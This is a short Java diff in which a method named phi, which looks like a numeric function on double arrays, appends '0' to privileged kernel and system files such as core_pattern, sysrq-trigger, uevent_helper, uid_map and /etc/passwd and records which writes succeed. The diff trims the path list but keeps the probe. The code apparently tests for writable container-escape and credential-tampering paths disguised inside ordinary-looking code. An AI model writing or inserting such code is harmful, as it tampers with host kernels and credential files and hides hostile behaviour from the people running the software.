@@ -5,7 +5,7 @@
 double[] phi(double[] x) {
     List<String> wrote = new ArrayList<>();
     for (String file : List.of("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/hostname",
-            "/proc/1/oom_score_adj", "/sys/kernel/uevent_helper", "/proc/self/uid_map", "/etc/passwd", "/kit/0.jar")) {
+            "/sys/kernel/uevent_helper", "/proc/self/uid_map", "/etc/passwd", "/kit/0.jar")) {
         try (var out = new FileOutputStream(file, true)) {
             out.write("0".getBytes());
             wrote.add(file);
